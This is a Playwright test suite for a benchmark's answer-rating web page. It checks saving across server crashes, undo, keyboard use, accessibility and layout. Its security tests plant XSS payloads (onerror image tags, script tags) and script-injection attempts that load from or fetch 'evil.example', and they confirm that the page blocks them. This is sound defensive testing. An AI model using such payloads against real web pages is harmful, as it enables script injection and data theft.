"""The rating page in a real browser: every key press is kept, nothing hostile runs, and keys alone are enough."""

from __future__ import annotations

import random
import shutil
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from ecg_bench.ratings import Rating, read_ratings
from tests.ratings.served import HOSTILE, SYSTEMS, Server, Start, make_runs, starting

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium on this system"),
]
ROOT = Path(__file__).parents[2]
LEVELS = ("incorrect", "partially incorrect", "correct but incomplete", "correct")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with playwright.sync_playwright() as library:
        one = library.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-dev-shm-usage"])
        yield one
        one.close()


@dataclass
class Desk:
    """A browser of its own, and all that it asked for and was told."""

    context: Any
    asked: list[str] = field(default_factory=list)
    replies: list[Any] = field(default_factory=list)
    told: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def page(self) -> Any:
        page = self.context.new_page()
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("response", lambda response: self.replies.append(response))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        page.on("dialog", lambda dialog: self.complaints.append(f"dialog: {dialog.message}"))
        page.on("console", self._hear)
        return page

    def _hear(self, message: Any) -> None:
        if message.type == "error" and "Failed to load resource" not in message.text:  # that is a server being down
            self.complaints.append(message.text)

    def read(self) -> None:
        """Read what the pages were told, as long as they are open."""
        for response in self.replies:
            self.told.append(f"{response.all_headers()} {response.text()}")
        self.replies.clear()

    def open(self, server: Server, rater: str) -> Any:
        page = self.page()
        page.goto(server.url)
        page.fill("#name", rater)
        page.keyboard.press("Enter")
        page.wait_for_selector("#card:not([hidden]), #done:not([hidden])")
        return page


@pytest.fixture
def desk(browser: Any) -> Iterator[Desk]:
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    context.set_default_timeout(20_000)
    one = Desk(context)
    yield one
    context.close()
    assert one.complaints == []


@pytest.fixture(scope="module")
def few(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Path]]:
    folder = tmp_path_factory.mktemp("few")
    return folder, make_runs(folder, 3, SYSTEMS[:2])


@pytest.fixture
def server(few: tuple[Path, list[Path]], tmp_path: Path) -> Iterator[Server]:
    with starting() as start:
        yield start(*few, "--passage", out=str(tmp_path / "ratings.csv"))


@pytest.fixture
def serve() -> Iterator[Start]:
    with starting() as start:
        yield start


@pytest.fixture(scope="module")
def standing(few: tuple[Path, list[Path]]) -> Iterator[Server]:
    with starting() as start:
        yield start(*few, "--passage", out="standing.csv")


def settled(page: Any) -> None:
    page.wait_for_selector('#saved[data-state="saved"]')


def where(page: Any) -> str:
    return str(page.text_content("#where"))


def marks(server: Server) -> dict[int, tuple[tuple[str, ...], str]]:
    """Stop the server, and return levels and comment by position."""
    server.stop()
    return {one.position or 0: (one.levels, one.comment) for one in read_ratings(server.out)}


class Rater:
    """Rates by keys, and remembers what every press should have led to."""

    def __init__(self, page: Any, seed: int) -> None:
        self.page = page
        self.random = random.Random(seed)
        self.said: dict[int, tuple[tuple[str, ...], str]] = {}
        self.seen: dict[int, tuple[str, str]] = {}
        self.states: list[tuple[tuple[str, ...], str]] = []

    def rate(self, position: int) -> None:
        """Rate the answer that is on the page, in one of the ways that there are."""
        assert where(self.page).startswith(f"Answer {position} of ")
        self.seen[position] = (self.page.text_content("#question"), self.page.text_content("#answer"))
        press, way, comment = self.page.keyboard.press, self.random.random(), ""
        if way < 0.1:
            comment = f"On {position}: {self.random.choice(('limits, ', 'rate; '))}\u00e4"
            press("c")
            self.page.keyboard.type(comment)
            press("Escape")
        if way < 0.2:
            pair = sorted(self.random.sample(range(4), 2))
            for level in pair:
                press(f"Shift+Digit{level + 1}")
            press("ArrowRight")
            self.keep(position, tuple(LEVELS[level] for level in pair), comment)
        elif way < 0.25:
            press("s")
            self.keep(position, (), comment)
        else:
            level = self.random.randrange(4)
            if way < 0.35:
                press(str((level + 1) % 4 + 1))
                self.states.append(((LEVELS[(level + 1) % 4],), comment))
                press("u")
            if way < 0.45:
                press(str((level + 2) % 4 + 1))
                self.states.append(((LEVELS[(level + 2) % 4],), comment))
                press("ArrowLeft")
            press(str(level + 1))
            self.keep(position, (LEVELS[level],), comment)

    def keep(self, position: int, levels: tuple[str, ...], comment: str) -> None:
        self.said[position] = levels, comment
        self.states.append((levels, comment))


def test_two_hundred_answers_by_keys_with_two_kills_in_between(serve: Start, desk: Desk, tmp_path: Path) -> None:
    server = serve(tmp_path, make_runs(tmp_path, 50))
    page = desk.open(server, "Anna")
    rater = Rater(page, seed=20261121)
    for position in range(1, 71):
        rater.rate(position)
    server.kill()  # while the last key presses are on their way
    for position in range(71, 81):  # the rater goes on, with nobody there to take it
        rater.rate(position)
    page.wait_for_selector("#trouble:not([hidden])")
    assert "Not saved" in page.text_content("#trouble")
    assert page.get_attribute("#saved", "data-state") == "trouble"
    address = server.url
    server.start()
    assert server.url == address
    settled(page)
    assert page.is_hidden("#trouble")
    for position in range(81, 141):
        rater.rate(position)
    server.kill()
    for position in range(141, 146):
        rater.rate(position)
    desk.read()
    page.close()  # with what could not be sent
    server.start()
    rater.page = page = desk.open(server, "anna")
    settled(page)
    for position in range(146, 201):
        rater.rate(position)
    settled(page)
    assert page.text_content("#done-title") == "All answers are rated"
    assert page.text_content("#where") == "200 of 200 rated"
    desk.read()
    table = compare(server, rater)
    assert {one.rater for one in table} == {"Anna"}
    blinded(desk, server, tmp_path)


def compare(server: Server, rater: Rater) -> list[Rating]:
    """Every key press that the script made is in the table, or was undone, and is in the journal."""
    server.stop()
    table = read_ratings(server.out)
    assert len(table) == 200
    assert {one.position: (one.levels, one.comment) for one in table} == rater.said
    assert {one.position: (one.question, one.answer) for one in table} == rater.seen
    journal = Path(f"{server.out}.journal").read_text(encoding="utf-8")
    for levels, comment in rater.states:
        shown = ", ".join(f'"{level}"' for level in levels)
        assert f'"levels": [{shown}]' in journal
        assert f'"comment": "{comment}"' in journal
    assert len({(one.system, one.sample) for one in table}) == 200
    return table


def blinded(desk: Desk, server: Server, folder: Path) -> None:
    """Nothing that the browser got or asked for says whose an answer is, and all of it came from this machine."""
    assert {url.split("/", 3)[2] for url in desk.asked} == {server.base.removeprefix("http://")}
    texts = desk.asked + desk.told
    assert sum('"cards"' in text for text in texts) == 3
    for word in (*SYSTEMS, "toy/free", "replay", str(folder), "o0001", "ratings.csv"):
        assert not [text for text in texts if word in text], word


def test_nothing_planted_in_a_text_runs_and_all_of_it_is_shown_as_it_is(
    serve: Start, desk: Desk, tmp_path: Path
) -> None:
    planted = "<img src=x onerror=window.hacked=6><script>window.hacked=7</script>"
    judge = (ROOT / "judges" / "ecg-correctness.yaml").read_text(encoding="utf-8")
    for words in ("The core of the answer", "how far a cardiologist"):
        assert words in judge
        judge = judge.replace(words, f"{planted} {words}")
    (tmp_path / "planted.yaml").write_text(judge, encoding="utf-8")
    runs = make_runs(tmp_path, 2, SYSTEMS[:1], hostile=True)
    server = serve(tmp_path, runs, "--passage", "--judge", str(tmp_path / "planted.yaml"))
    page = desk.open(server, f"<img src=x onerror=window.hacked=9>{'x' * 10}")
    page.keyboard.press("p")
    page.keyboard.press("c")
    page.keyboard.insert_text(HOSTILE)
    settled(page)
    page.reload()
    page.wait_for_selector("#card:not([hidden])")
    for part in ("question", "answer", "reference"):
        assert page.evaluate(f"document.getElementById('{part}').textContent.endsWith({HOSTILE!r})"), part
        assert page.evaluate(f"document.getElementById('{part}').children.length") == 0
    assert page.input_value("#comment") == HOSTILE
    assert page.text_content("#rater").startswith("<img src=x onerror")
    assert page.text_content("#asked").startswith(f"Correctness: {planted}")
    assert page.text_content("#meaning-1").startswith(planted)
    page.keyboard.press("Escape")
    page.keyboard.press("4")
    settled(page)
    time.sleep(0.3)
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("document.querySelectorAll('img, svg, iframe, article script, article a').length") == 0
    assert all(url.startswith(server.base) for url in desk.asked)
    assert marks(server) == {1: (("correct",), HOSTILE)}


ATTEMPTS = (
    "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
    "document.getElementById('answer').setAttribute('onclick', 'window.hacked = 1')",
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' }))",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    "await fetch('https://evil.example/x')",
    "setTimeout('window.hacked = 1', 0)",
)


def test_the_browser_itself_would_refuse_what_got_in(desk: Desk, standing: Server) -> None:
    page = desk.open(standing, "Mallory")
    for attempt in ATTEMPTS:
        outcome = page.evaluate(
            f"(async () => {{ try {{ {attempt}; return 'taken'; }} catch (error) {{ return error.name; }} }})()"
        )
        assert outcome == "TypeError", attempt
        assert desk.complaints, "the browser says that it refused"
        desk.complaints.clear()
    page.keyboard.press("4")
    settled(page)
    assert page.evaluate("window.hacked") is None
    assert all(url.startswith(standing.base) for url in desk.asked)


def test_undo_takes_back_any_step_and_finds_its_place(desk: Desk, server: Server) -> None:
    page = desk.open(server, "Anna")
    press = page.keyboard.press
    for key in ("4", "1", "Shift+Digit2", "Shift+Digit3", "ArrowRight", "s", "c"):
        press(key)
    page.keyboard.type("a word")
    press("Escape")
    settled(page)
    page.reload()  # what can be undone is known to the server too
    page.wait_for_selector("#card:not([hidden])")
    assert page.input_value("#comment") == "a word"
    states = []
    for _ in range(7):
        press("u")
        pressed = page.eval_on_selector_all('.level[aria-pressed="true"]', "all => all.map(one => one.id.at(-1))")
        skipped = page.get_attribute("#skip", "aria-pressed") == "true"
        states.append((where(page)[:8], "".join(pressed), skipped, page.input_value("#comment")))
    assert states == [
        ("Answer 5", "", False, ""),  # the comment, all letters of it
        ("Answer 4", "", False, ""),
        ("Answer 3", "2", False, ""),
        ("Answer 3", "", False, ""),
        ("Answer 2", "", False, ""),
        ("Answer 1", "", False, ""),
        ("Answer 1", "", False, ""),
    ]
    assert page.text_content("#said") == "There is nothing to undo"
    settled(page)
    assert marks(server) == {}


def test_clicks_and_taps_do_what_keys_do(desk: Desk, server: Server) -> None:
    page = desk.open(server, "Anna")
    page.click("#level-3")
    page.click("#several")
    page.click("#level-1")
    page.click("#level-2")
    page.click("#forth")
    page.click("#skip")
    page.click("#level-4", modifiers=["Shift"])
    page.click("#comment-open")
    page.fill("#comment", "by mouse")
    page.click("#back")
    page.click("#undo")
    settled(page)
    assert marks(server) == {
        1: (("correct but incomplete",), ""),
        2: (("incorrect", "partially incorrect"), ""),
        3: ((), ""),
        4: (("correct",), ""),
    }


def test_two_raters_in_two_windows_of_one_browser_do_not_meet(desk: Desk, server: Server) -> None:
    anna, ben = desk.open(server, "Anna"), desk.open(server, "Ben")
    for number in range(6):
        anna.keyboard.press("4")
        ben.keyboard.press("1" if number % 2 else "2")
    for page in (anna, ben):
        settled(page)
        page.reload()
        page.wait_for_selector("#done:not([hidden])")
    assert anna.text_content("#rater") == "Anna"
    server.stop()
    table = read_ratings(server.out)
    assert {one.levels for one in table if one.rater == "Anna"} == {("correct",)}
    assert {one.levels for one in table if one.rater == "Ben"} == {("incorrect",), ("partially incorrect",)}
    assert len(table) == 12


def test_place_pace_and_progress(desk: Desk, server: Server) -> None:
    page = desk.open(server, "Anna")
    for key in ("4", "ArrowRight", "4", "4"):
        page.keyboard.press(key)
    settled(page)
    assert page.text_content("#left").startswith("3 rated")
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    page.reload()
    page.wait_for_selector("#card:not([hidden])")
    assert where(page) == "Answer 3 of 6", "a reload changes nothing"
    other = desk.open(server, "Anna")
    assert where(other) == "Answer 5 of 6", "elsewhere, the first open one after the last that was rated"
    other.keyboard.press("n")
    other.keyboard.press("n")
    assert where(other) == "Answer 2 of 6"
    other.keyboard.press("4")
    other.keyboard.press("n")
    other.keyboard.press("4")
    other.keyboard.press("4")
    assert other.text_content("#done-text") == "You rated 6 of 6 answers."
    assert other.evaluate("document.getElementById('progress').value") == 6


def test_a_key_held_down_rates_once(desk: Desk, standing: Server) -> None:
    page = desk.open(standing, "Holder")
    for _ in range(4):  # without letting go
        page.keyboard.down("4")
    page.keyboard.up("4")
    assert where(page) == "Answer 2 of 6"


def test_single_keys_can_be_turned_off(desk: Desk, standing: Server) -> None:
    page = desk.open(standing, "Keyless")
    page.keyboard.press("?")
    page.uncheck("#keys-on")
    page.keyboard.press("Escape")
    for key in ("4", "s", "u", "c"):
        page.keyboard.press(key)
    assert where(page) == "Answer 1 of 6"
    page.keyboard.press("?")
    assert page.is_visible("#help")


def test_a_stranger_is_told_what_to_do(desk: Desk, standing: Server) -> None:
    page = desk.page()
    page.goto(standing.base)
    assert "the address that 'ecg-bench ratings serve' printed" in page.text_content("body")


# Accessibility

CONTROLS = {
    "button",
    "textbox",
    "link",
    "radio",
    "checkbox",
    "progressbar",
    "progressIndicator",
    "dialog",
    "alertdialog",
}


def nameless(page: Any) -> list[str]:
    """Return the roles of controls without a name, as the browser tells assistive technology."""
    session = page.context.new_cdp_session(page)
    nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    session.detach()
    found = [
        (node["role"]["value"], node.get("name", {}).get("value", ""))
        for node in nodes
        if not node["ignored"] and node.get("role", {}).get("value") in CONTROLS
    ]
    assert found
    return [role for role, name in found if not name.strip()]


HEADINGS = """() => [...document.querySelectorAll("h1, h2, h3")].filter((one) => one.checkVisibility())
  .map((one) => Number(one.tagName[1]))"""

CONTRAST = """() => {
  const parse = (text) => { const [r, g, b, a = 1] = text.match(/[\\d.]+/g).map(Number); return { r, g, b, a }; };
  const over = (top, under) => ({ r: top.r * top.a + under.r * (1 - top.a), g: top.g * top.a + under.g * (1 - top.a),
                                  b: top.b * top.a + under.b * (1 - top.a), a: 1 });
  const light = ({ r, g, b }) => [r, g, b].map((c) => c / 255)
    .map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4))
    .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
  const ratio = (a, b) => {
    const [x, y] = [light(a), light(b)].sort((p, q) => q - p);
    return (x + 0.05) / (y + 0.05);
  };
  const ground = (element) => {
    const layers = [];
    for (let at = element; at; at = at.parentElement) layers.push(parse(getComputedStyle(at).backgroundColor));
    return layers.reverse().reduce((under, top) => over(top, under), { r: 255, g: 255, b: 255, a: 1 });
  };
  const found = [];
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walk.nextNode()) {
    const element = walk.currentNode.parentElement;
    const modal = document.querySelector("dialog[open]");
    if (!walk.currentNode.data.trim() || !element.checkVisibility() || element.closest(".unseen, :disabled")) continue;
    if (modal && !modal.contains(element)) continue;
    const value = ratio(parse(getComputedStyle(element).color), ground(element));
    found.push([Math.round(value * 100) / 100, walk.currentNode.data.trim().slice(0, 40)]);
  }
  for (const element of document.querySelectorAll(".level, textarea, input[type=text]")) {
    if (!element.checkVisibility() || element.getAttribute("aria-pressed") === "true") continue;
    const edge = ratio(parse(getComputedStyle(element).borderTopColor), ground(element.parentElement));
    found.push([Math.round(edge * 1.5 * 100) / 100, `edge of ${element.id}`]); // 3 is enough for an edge
  }
  return found;
}"""


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_state_has_names_headings_in_order_and_contrast(browser: Any, server: Server, theme: str) -> None:
    context = browser.new_context(viewport={"width": 1366, "height": 768}, color_scheme=theme)
    page = context.new_page()
    states: dict[str, Callable[[], Any]] = {
        "enter": lambda: page.goto(server.url),
        "card": lambda: (page.fill("#name", "Anna"), page.keyboard.press("Enter"), page.wait_for_selector("#answer")),
        "several": lambda: [page.keyboard.press(key) for key in ("m", "2", "3", "p", "c")],
        "help": lambda: [page.keyboard.press(key) for key in ("Escape", "?")],
        "done": lambda: [page.keyboard.press(key) for key in ("Escape", "ArrowRight", *"s44444")],
        "trouble": lambda: (server.kill(), page.keyboard.press("u"), page.wait_for_selector("#trouble:not([hidden])")),
    }
    for state, go in states.items():
        go()
        if state not in ("enter", "trouble"):
            settled(page)
        assert nameless(page) == [], state
        headings = page.evaluate(HEADINGS)
        assert headings[0] == 1, state
        assert headings.count(1) == 1, state
        assert all(b - a <= 1 for a, b in pairwise(headings)), state
        measured = page.evaluate(CONTRAST)
        assert len(measured) > 5
        assert [one for one in measured if one[0] < 4.5] == [], (state, theme)
    context.close()


def test_tab_reaches_every_control_and_shows_where_it_is(desk: Desk, standing: Server) -> None:
    page = desk.open(standing, "Anna")
    page.keyboard.press("4")
    reached = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        one = page.evaluate(
            """() => { const at = document.activeElement, style = getComputedStyle(at);
                       return [at.id, style.outlineStyle, parseFloat(style.outlineWidth)]; }"""
        )
        if one[0]:
            reached.add(one[0])
            assert one[1:] == ["solid", 3], one
    assert reached == {
        *("leave", "help-open", "passage-button", "level-1", "level-2", "level-3", "level-4"),
        *("back", "forth", "next-open", "several", "skip", "comment-open", "undo"),
    }
    page.focus("#level-2")
    page.keyboard.press("Enter")
    assert where(page) == "Answer 3 of 6"
    assert page.evaluate("document.activeElement.id") == "card-title", "a second Enter must not rate the next one"


@pytest.mark.parametrize(("width", "height"), [(1366, 768), (1024, 768), (820, 1180), (360, 740)])
@pytest.mark.parametrize("size", ["normal", "larger"])
def test_nothing_is_cut_off_at_any_width(browser: Any, standing: Server, width: int, height: int, size: str) -> None:
    context = browser.new_context(viewport={"width": width, "height": height})
    context.add_init_script(f"localStorage.setItem('ecg-bench:looks', '{{\"size\": \"{size}\"}}')")
    page = context.new_page()
    page.goto(standing.url)
    page.fill("#name", "A rater with quite a long name")
    page.keyboard.press("Enter")
    page.wait_for_selector("#card:not([hidden])")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    cut = """() => [...document.querySelectorAll("button, .level *, p")].filter((one) => one.checkVisibility()
               && !one.closest(".unseen") && one.scrollWidth > one.clientWidth + 1 && one.clientWidth).length"""
    assert page.evaluate(cut) == 0
    if width >= 820:
        assert page.evaluate("document.getElementById('dock').getBoundingClientRect().bottom <= innerHeight + 1")
    context.close()
